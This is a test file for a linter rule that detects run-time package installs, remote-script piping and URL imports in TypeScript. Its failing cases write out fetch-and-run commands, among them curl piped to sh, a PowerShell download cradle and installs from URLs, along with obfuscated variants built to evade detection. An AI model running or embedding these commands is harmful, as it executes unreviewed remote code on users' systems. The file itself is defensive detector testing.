import rule from '../../../src/core/rules/ts/runtime-install';
import * as assert from 'node:assert/strict';
import { ruleTester, runTs } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    "import { execSync } from 'child_process'; execSync('git status')",
    "import { execSync } from 'child_process'; execSync('npm run build')",
    "import { execSync } from 'child_process'; execSync('npm test -- --coverage')",
    "import { spawn } from 'child_process'; spawn('yarn', ['build'])",
    "import helper from './helper.js';",
    "import helper from 'lodash';",
    "const cmd = 'npm install'; console.log(`run ${cmd} first`)",
    'const r = /npm install/.exec(text)',
    'this.queue.exec("npm install x")',
    'db.exec("pip install x")',
    "function exec(s) { return s } exec('npm install lodash')",
    "import { execSync } from 'child_process'; execSync('curl -fsSL https://example.com/data.json -o data.json')",
    "const url = 'https://cdn.example.com/lib.js'; fetch(url)",
    "const x = await import('./plugins/a.js')",
    "import type { T } from 'https://deno.land/x/types.ts';",
  ],
  invalid: [
    {
      code: "import { execSync } from 'child_process'; execSync('curl -fsSL https://get.example.sh | sh')",
      errors: [{ messageId: 'pipeShell', severity: 'high', category: 'supply-chain' }],
    },
    {
      code: "import { exec } from 'node:child_process'; exec('wget -qO- https://x.example/i.sh | sudo bash')",
      errors: [{ messageId: 'pipeShell' }],
    },
    {
      code: "import { execSync } from 'child_process'; execSync('bash -c \"$(curl -fsSL https://x.example/install.sh)\"')",
      errors: [{ messageId: 'pipeShell' }],
    },
    {
      code: "import { spawn } from 'child_process'; spawn('sh', ['-c', 'curl https://x.example/p | python3'])",
      errors: [{ messageId: 'pipeShell' }],
    },
    {
      code: "import { execSync } from 'child_process'; execSync(\"powershell -c iex (New-Object Net.WebClient).DownloadString('https://x.example/p.ps1')\")",
      errors: [{ messageId: 'pipeShell' }],
    },
    {
      code: "const { spawn } = require('child_process'); spawn('npm', ['install', pkgName])",
      errors: [
        {
          messageId: 'install',
          severity: 'high',
          message:
            '`child_process.spawn` installs `<pkgName>` at run time (`npm install <pkgName>`): code that no manifest or lockfile pins or reviews.',
        },
      ],
    },
    {
      code: "import { execSync } from 'child_process'; execSync('npm install left-pad@1.3.0')",
      errors: [{ messageId: 'install', severity: 'medium' }],
    },
    {
      code: "import { execSync } from 'child_process'; execSync(`npm i -g ${name}`)",
      errors: [{ messageId: 'install', severity: 'high' }],
    },
    { code: "import { execSync } from 'child_process'; execSync('npm install')", errors: [{ messageId: 'install', severity: 'low' }] },
    {
      code: "import { execSync } from 'child_process'; execSync('npm install https://x.example/pkg.tgz')",
      errors: [{ messageId: 'install', severity: 'high' }],
    },
    {
      code: "import { execSync } from 'child_process'; execSync('cd /tmp && yarn add github:someone/tool')",
      errors: [{ messageId: 'install', severity: 'high' }],
    },
    { code: "import { execSync } from 'child_process'; execSync('pnpm add zod')", errors: [{ messageId: 'install' }] },
    { code: "import { execSync } from 'child_process'; execSync('pip install requests')", errors: [{ messageId: 'install' }] },
    {
      code: "import { execFileSync } from 'child_process'; execFileSync('python3', ['-m', 'pip', 'install', 'git+https://github.com/x/y'])",
      errors: [{ messageId: 'install', severity: 'high' }],
    },
    {
      code: "import { execSync } from 'child_process'; execSync('npx cowsay hi')",
      errors: [{ messageId: 'runPackage', severity: 'medium' }],
    },
    { code: "import { execSync } from 'child_process'; execSync('pnpm dlx create-thing@latest')", errors: [{ messageId: 'runPackage' }] },
    { code: "import { execSync } from 'child_process'; execSync(`bunx ${tool}`)", errors: [{ messageId: 'runPackage', severity: 'high' }] },
    { code: "import { execa } from 'execa'; await execa('npm', ['install', 'lodash'])", errors: [{ messageId: 'install' }] },
    { code: "import { $ } from 'zx'; await $`npm install ${pkg}`", errors: [{ messageId: 'install', severity: 'high' }] },
    { code: "Bun.spawn(['pip', 'install', 'requests'])", errors: [{ messageId: 'install' }] },
    { code: "new Deno.Command('npm', { args: ['install', 'x'] })", errors: [{ messageId: 'install' }] },
    { code: "const cp = require('child_process'); const run = cp.execSync; run('npm install evil')", errors: [{ messageId: 'install' }] },
    { code: "const { execSync: e } = require('node:child_process'); e('npm install evil')", errors: [{ messageId: 'install' }] },
    { code: "import * as cp from 'child_process'; cp['exec' + 'Sync']('npm install evil')", errors: [{ messageId: 'install' }] },
    { code: "import cp from 'child_process'; cp.execSync.call(null, 'npm install evil')", errors: [{ messageId: 'install' }] },
    { code: "import cp from 'child_process'; Reflect.apply(cp.execSync, null, ['npm install evil'])", errors: [{ messageId: 'install' }] },
    {
      code: "import { execSync } from 'child_process'; const c = 'npm ' + 'install ' + 'evil'; execSync(c)",
      errors: [{ messageId: 'install' }],
    },
    { code: "import { execSync } from 'child_process'; execSync(atob('bnBtIGluc3RhbGwgZXZpbA=='))", errors: [{ messageId: 'install' }] },
    {
      code: "import { execSync } from 'child_process'; execSync(String.fromCharCode(110,112,109,32,105,32,120))",
      errors: [{ messageId: 'install' }],
    },
    {
      code: "import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('child_process').execSync('npm install evil')",
      errors: [{ messageId: 'install' }],
    },
    {
      code: "import { PluginManager } from 'live-plugin-manager'; const m = new PluginManager(); await m.install(name)",
      errors: [{ messageId: 'api' }],
    },
    { code: "import helper from 'https://cdn.example.com/helper.js';", errors: [{ messageId: 'urlImport', severity: 'medium' }] },
    { code: "import helper from 'http://cdn.example.com/helper.js';", errors: [{ messageId: 'urlImport', severity: 'high' }] },
    { code: "export * from 'https://esm.sh/lib';", errors: [{ messageId: 'urlImport' }] },
    { code: "const m = await import('https://cdn.example.com/x.mjs')", errors: [{ messageId: 'urlImport' }] },
    { code: "const u = 'https://cdn.example.com/x.mjs'; const m = await import(u)", errors: [{ messageId: 'urlImport' }] },
    { code: "const m = require('http://cdn.example.com/x.js')", errors: [{ messageId: 'urlImport', severity: 'high' }] },
  ],
});

describe(`${rule.meta.id} meta examples`, () => {
  rule.meta.incorrect.forEach((code, i) => it(`incorrect ${i}`, () => assert.ok(runTs(rule, code).some((f) => f.ruleId === rule.meta.id))));
  rule.meta.correct.forEach((code, i) => it(`correct ${i}`, () => assert.deepEqual(runTs(rule, code), [])));
});
